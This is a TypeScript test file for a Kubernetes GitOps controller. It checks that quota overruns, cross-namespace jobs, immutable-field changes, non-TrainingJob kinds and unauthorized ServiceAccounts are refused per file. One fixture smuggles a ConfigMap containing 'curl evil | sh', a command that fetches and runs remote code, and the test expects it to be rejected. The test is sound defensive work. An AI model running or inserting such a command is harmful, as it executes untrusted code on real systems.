// What the cluster refuses, per file, as the user reads it: an over-quota job (the webhook's message verbatim in the
// JobRepository status and in `kubectl describe`), an immutable-field change (with the remedy), a job for another
// namespace, a ConfigMap smuggled into the repo; and a JobRepository that applies as its ServiceAccount.
import t from 'tap';
import { eventually } from '../harness/tap.ts';
import { parseInventory } from '../../api/jobrepository.ts';
import { GROUP, jobYaml, ready, startGitSyncEnv } from '../fixtures/gitsync-env.ts';

const env = await startGitSyncEnv(t);
const OVER_QUOTA = 'namespace team-a GPU quota 16: 12 in use, this job asks 8 (4 workers × 2 GPUs)';
await env.namespace('team-a', 'team-a');
const teamA = await env.gitRepo('team-a');

t.test('team-a: an over-quota job, another namespace, a ConfigMap — refused per file, the rest applied', async (t) => {
  const ns = 'team-a';
  const wc = teamA;
  const rev = await wc.commitAndPush({
    // 8 + 4 GPUs of team-a's 16, then 8 more: over quota. Files are applied in path order.
    'jobs/a-train.yaml': jobYaml('a-train', { workers: 4, gpus: 2 }),
    'jobs/b-eval.yaml': jobYaml('b-eval', { workers: 2, gpus: 2 }),
    'jobs/c-sweep.yaml': jobYaml('c-sweep', { workers: 4, gpus: 2 }),
    'jobs/d-other-namespace.yaml': jobYaml('d-sneaky', { namespace: 'team-b' }),
    'jobs/e-configmap.yaml': [
      jobYaml('e-fine'),
      '---',
      'apiVersion: v1',
      'kind: ConfigMap',
      'metadata:',
      '  name: smuggled',
      'data:',
      '  run.sh: curl evil | sh',
      '',
    ].join('\n'),
  }, 'team-a jobs');
  await env.createRepository(ns, 'jobs', { url: env.server.url('team-a'), path: 'jobs', interval: '2s' });
  const r = await env.repositoryWhen(t, ns, 'jobs', (r) => r.status?.lastAppliedRevision === rev, 'applied');
  const errors = r.status?.errors ?? [];
  t.same(errors.map((e) => e.file), ['jobs/c-sweep.yaml', 'jobs/d-other-namespace.yaml', 'jobs/e-configmap.yaml'], 'three refused files', { errors });

  const quota = errors.find((e) => e.file === 'jobs/c-sweep.yaml');
  t.equal(quota?.line, 1, 'the line of the refused document');
  t.ok(quota?.message.includes(OVER_QUOTA), `the webhook's message verbatim: ${quota?.message}`);
  const other = errors.find((e) => e.file === 'jobs/d-other-namespace.yaml');
  t.same(other, { file: 'jobs/d-other-namespace.yaml', line: 5, message: 'metadata.namespace team-b is not allowed: this JobRepository may only create TrainingJobs in namespace team-a' });
  const cm = errors.find((e) => e.file === 'jobs/e-configmap.yaml');
  t.same(cm, { file: 'jobs/e-configmap.yaml', line: 19, message: 'kind ConfigMap is not allowed: a JobRepository may only create TrainingJobs' }, 'the line of the ConfigMap kind in the second document of the file');

  t.same(await env.jobNames(ns), ['a-train', 'b-eval', 'e-fine'], 'the good jobs, including the TrainingJob next to the ConfigMap');
  await t.rejects(env.core.readNamespacedConfigMap({ name: 'smuggled', namespace: ns }), 'no ConfigMap was created');
  t.same(await env.jobNames('team-b').catch(() => []), [], 'nothing in team-b');
  t.same(parseInventory(r.status?.inventory).map((e) => e.name), ['a-train', 'b-eval', 'c-sweep', 'e-fine'], 'the refused job stays in the inventory (so it is never pruned)');

  const cond = ready(r);
  t.match(cond, { status: 'False', reason: 'ManifestErrors' });
  t.ok(cond?.message.includes('3 errors in 3 file(s); first: jobs/c-sweep.yaml:1: ') && cond.message.includes(OVER_QUOTA), `the Ready condition summarises: ${cond?.message}`);

  const described = await env.describe(ns, 'jobs');
  t.ok(described.includes(`jobs/c-sweep.yaml:1: admission webhook`) && described.includes(OVER_QUOTA), 'kubectl describe: the quota refusal verbatim in a Warning event', { described });
  t.match(described, /Warning\s+ManifestRejected\s+.*jobs\/d-other-namespace.yaml:5: metadata.namespace team-b is not allowed/);
  t.match(described, /Warning\s+ManifestRejected\s+.*jobs\/e-configmap.yaml:19: kind ConfigMap is not allowed/);
  t.ok(described.includes(OVER_QUOTA), 'the status errors shown by describe too');

});

t.test('an immutable field changed in git: refused with the remedy (rename the job)', async (t) => {
  const ns = 'ml-immutable';
  await env.namespace(ns);
  const wc = await env.gitRepo('immutable');
  const first = await wc.commitAndPush({ 'train.yaml': jobYaml('train', { workers: 1 }) }, 'one worker');
  await env.createRepository(ns, 'jobs', { url: env.server.url('immutable'), interval: '2s' });
  await env.repositoryWhen(t, ns, 'jobs', (r) => r.status?.lastAppliedRevision === first, 'applied');
  const second = await wc.commitAndPush({ 'train.yaml': jobYaml('train', { workers: 3 }) }, 'three workers');
  const r = await env.repositoryWhen(t, ns, 'jobs', (r) => r.status?.lastAppliedRevision === second, 'second revision processed');
  t.match(r.status?.errors, [{ file: 'train.yaml', line: 1, message: /spec\.numWorkers: field is immutable \(was 1, now 3\).*rename the job: a new name makes a new TrainingJob/ }]);
  t.equal((await env.getJob(ns, 'train'))?.spec?.numWorkers, 1, 'the running job is unchanged');
});

t.test('serviceAccountName: applies as that ServiceAccount; one without permission gets Forbidden per file', async (t) => {
  const ns = 'ml-sa';
  await env.namespace(ns);
  await env.core.createNamespacedServiceAccount({ namespace: ns, body: { metadata: { name: 'deployer' } } });
  await env.core.createNamespacedServiceAccount({ namespace: ns, body: { metadata: { name: 'nobody' } } });
  await env.rbac.createNamespacedRole({ namespace: ns, body: { metadata: { name: 'trainingjobs-editor' }, rules: [{ apiGroups: [GROUP], resources: ['trainingjobs'], verbs: ['get', 'list', 'watch', 'create', 'update', 'patch', 'delete'] }] } });
  await env.rbac.createNamespacedRoleBinding({ namespace: ns, body: { metadata: { name: 'deployer' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'trainingjobs-editor' }, subjects: [{ kind: 'ServiceAccount', name: 'deployer', namespace: ns }] } });
  const wc = await env.gitRepo('sa');
  const rev = await wc.commitAndPush({ 'allowed/ok.yaml': jobYaml('by-deployer'), 'denied/no.yaml': jobYaml('by-nobody') }, 'two folders');
  await env.createRepository(ns, 'as-deployer', { url: env.server.url('sa'), path: 'allowed', interval: '2s', serviceAccountName: 'deployer' });
  await env.createRepository(ns, 'as-nobody', { url: env.server.url('sa'), path: 'denied', interval: '2s', serviceAccountName: 'nobody' });

  const ok = await env.repositoryWhen(t, ns, 'as-deployer', (r) => r.status?.lastAppliedRevision === rev, 'as-deployer applied');
  t.same(ok.status?.errors ?? [], []);
  t.match(ready(ok), { status: 'True', reason: 'Synced' });
  const job = await env.getJob(ns, 'by-deployer');
  t.ok(job, 'created');
  const managers = (job?.metadata as { managedFields?: Array<{ manager?: string }> } | undefined)?.managedFields?.map((f) => f.manager) ?? [];
  t.ok(managers.includes('trainingjob-gitops'), `applied with field manager trainingjob-gitops (${managers.join(', ')})`);

  const denied = await env.repositoryWhen(t, ns, 'as-nobody', (r) => r.status?.lastAppliedRevision === rev, 'as-nobody processed');
  t.match(denied.status?.errors, [{ file: 'denied/no.yaml', line: 1, message: /forbidden: User "system:serviceaccount:ml-sa:nobody" cannot patch resource "trainingjobs" in API group "ml.example.com" in the namespace "ml-sa"/ }], 'a per-file Forbidden error naming the ServiceAccount');
  t.match(ready(denied), { status: 'False', reason: 'ManifestErrors' });
  t.notOk(await env.getJob(ns, 'by-nobody'), 'nothing created as nobody');
  t.match(await env.describe(ns, 'as-nobody'), /Warning\s+ManifestRejected\s+.*denied\/no.yaml:1: .*forbidden/);

  // The proof it is the ServiceAccount that applies: grant nobody the Role, and the same file goes in.
  await env.rbac.createNamespacedRoleBinding({ namespace: ns, body: { metadata: { name: 'nobody' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'trainingjobs-editor' }, subjects: [{ kind: 'ServiceAccount', name: 'nobody', namespace: ns }] } });
  const fixed = await env.repositoryWhen(t, ns, 'as-nobody', (r) => (r.status?.errors ?? []).length === 0, 'the refused file is retried and applied once the Role is bound');
  t.match(ready(fixed), { status: 'True' });
  t.ok(await env.getJob(ns, 'by-nobody'), 'now created');
});

// Last, so the webhook's GPU ledger reservation of b-eval (kept up to 90 s when no admission lists it) has mostly aged.
t.test('team-a: quota freed in git, the refused file is retried on the next polls and goes in', async (t) => {
  const ns = 'team-a';
  const wc = teamA;
  // b-eval deleted, c-sweep untouched.
  const rev2 = await wc.commitAndPush({ 'jobs/b-eval.yaml': null }, 'make room');
  const pruned = await eventually(async () => ((await env.jobNames(ns)).includes('b-eval') ? undefined : performance.now()), 30_000);
  t.ok(pruned, 'b-eval pruned');
  const ledger = await env.core.readNamespacedConfigMap({ name: 'gpu-ledger.team-a', namespace: 'trainingjob-system' }).catch(() => undefined);
  t.comment(`webhook GPU ledger after the prune: ${JSON.stringify(ledger?.data ?? {})}`);
  const r2 = await env.repositoryWhen(t, ns, 'jobs', (r) => r.status?.lastAppliedRevision === rev2 && !r.status.errors?.some((e) => e.file === 'jobs/c-sweep.yaml'), 'the quota error is gone once b-eval is pruned', 150_000);
  t.comment(`c-sweep admitted ${((performance.now() - (pruned ?? 0)) / 1000).toFixed(1)} s after b-eval was pruned`);
  t.same(r2.status?.errors?.map((e) => e.file), ['jobs/d-other-namespace.yaml', 'jobs/e-configmap.yaml'], 'the other refusals stay');
  const names = await eventually(async () => {
    const n = await env.jobNames(ns);
    return n.join(',') === 'a-train,c-sweep,e-fine' ? n : undefined;
  }, 30_000);
  t.same(names, ['a-train', 'c-sweep', 'e-fine']);
});
